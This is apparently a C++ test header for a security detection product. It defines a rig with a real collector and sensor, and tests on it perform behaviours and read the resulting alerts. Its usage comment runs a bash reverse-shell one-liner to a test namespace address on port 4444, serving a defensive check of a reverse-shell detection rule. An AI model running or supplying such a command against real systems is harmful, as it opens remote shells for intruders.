// The detection tests' rig: a real collector with the built-in detections
// (or a variant of them) and a real sensor uploading to it, with host tags,
// so a test performs a behaviour on this machine and reads the alerts the
// collector raised.
//
//   DetectionRig rig;                                   // skips without root/BPF
//   rig.run("bash -i >& /dev/tcp/10.213.1.2/4444 0>&1");
//   rig.settle();
//   auto alerts = rig.alerts("reverse-shell.*");        // from the admin API
//   REQUIRE(alerts.size() == 1);
//
// The sensor sees the whole machine, and other programs run on it while a
// test does (other tests, the CI runner). alerts() keeps the alerts about
// this test's own processes: those whose lineage reaches the test process,
// and those with no lineage at all (sensor rules).
#pragma once

#include <sys/types.h>

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "tests/root/collector_harness.h"
#include "tests/root/sensor_harness.h"

namespace yagura::test {

struct RigOptions {
  std::map<std::string, std::string> tags = {{"team", "payments"}, {"role", "web"}};
  // A detections file; empty: the built-in set. builtin_rules_with() makes
  // a variant.
  std::string rules_yaml;
  // Appended to the sensor's configuration.
  std::string sensor_yaml;
};

// The built-in detections with texts replaced, e.g.
// {{"params: {after: 10m}", "params: {after: 3s}"}}; every occurrence of a
// text is replaced; fails the test when a text is not found.
std::string builtin_rules_with(const std::vector<std::pair<std::string, std::string>>& edits);

class DetectionRig {
 public:
  explicit DetectionRig(RigOptions options = {});
  ~DetectionRig();
  DetectionRig(const DetectionRig&) = delete;
  DetectionRig& operator=(const DetectionRig&) = delete;

  // Runs `script` with /bin/bash -c as a child of the test and waits for
  // it (failing the test after a minute); stdin is /dev/null, its stdout
  // goes to the returned text.
  std::string run(const std::string& script);
  // Starts `argv` on this host in the background (stdin and stdout
  // /dev/null); killed by the destructor unless wait_exit() reaped it.
  pid_t spawn(const std::vector<std::string>& argv);
  // Waits for a spawned process (failing the test after a minute); its
  // exit code, -1 when a signal ended it.
  int wait_exit(pid_t pid);
  // Waits until what the host did so far is stored at the collector and
  // analysed by its detection engine.
  void settle();
  // The collector's open alerts of one rule ("exact.id") or of rules
  // starting with a prefix ("reverse-shell.*"), about this test's
  // processes (see above), newest first.
  std::vector<Json> alerts(const std::string& rule);
  // Polls until there is at least one such alert, up to `seconds`.
  std::vector<Json> wait_for_alerts(const std::string& rule, int seconds = 30);
  // Closes those alerts, so that a repeat of the behaviour raises a new one
  // (the store counts a repeat on an open alert of the same process tree,
  // and every behaviour of a test shares the test's tree).
  void close_alerts(const std::string& rule);
  // The lines of the collector's JSON lines alert output.
  std::vector<Json> alert_file_lines() const;

  const std::string& sensor_id() const { return sensor_id_; }
  CollectorProcess& collector() { return *collector_; }
  SensorProcess& sensor() { return *sensor_; }
  void stop_sensor();

 private:
  TempDir dir_;
  std::string sensor_id_;
  std::unique_ptr<TestPki> pki_;
  std::unique_ptr<CollectorProcess> collector_;
  std::unique_ptr<SensorProcess> sensor_;
  std::vector<pid_t> children_;
  int settles_ = 0;
};

// True when `alert`'s lineage has a process with this pid.
bool lineage_has_pid(const Json& alert, pid_t pid);
// The first entry of the alert's lineage whose command line contains
// `text`; null when none does.
Json lineage_entry(const Json& alert, const std::string& text);

// Waits (up to 20 s) until a ready file written by a test actor exists and
// returns the number in it (serve, http-serve, serve-exec: the port).
int wait_ready_file(const std::string& path);

// A network namespace joined to this host by a veth pair: this host is
// 10.213.N.1, the namespace 10.213.N.2 (not loopback, so the sensor and the
// rules see a remote peer). Removed by the destructor.
class TestNetns {
 public:
  TestNetns();
  ~TestNetns();
  TestNetns(const TestNetns&) = delete;
  TestNetns& operator=(const TestNetns&) = delete;
  const std::string& local_ip() const { return local_ip_; }
  const std::string& remote_ip() const { return remote_ip_; }
  // Starts `argv` inside the namespace, in the background; killed by the
  // destructor.
  pid_t spawn(const std::vector<std::string>& argv);
  // Runs `argv` inside the namespace and waits for it; its exit code.
  int run(const std::vector<std::string>& argv);

 private:
  std::string name_, host_veth_, local_ip_, remote_ip_;
  std::vector<pid_t> children_;
};

}  // namespace yagura::test
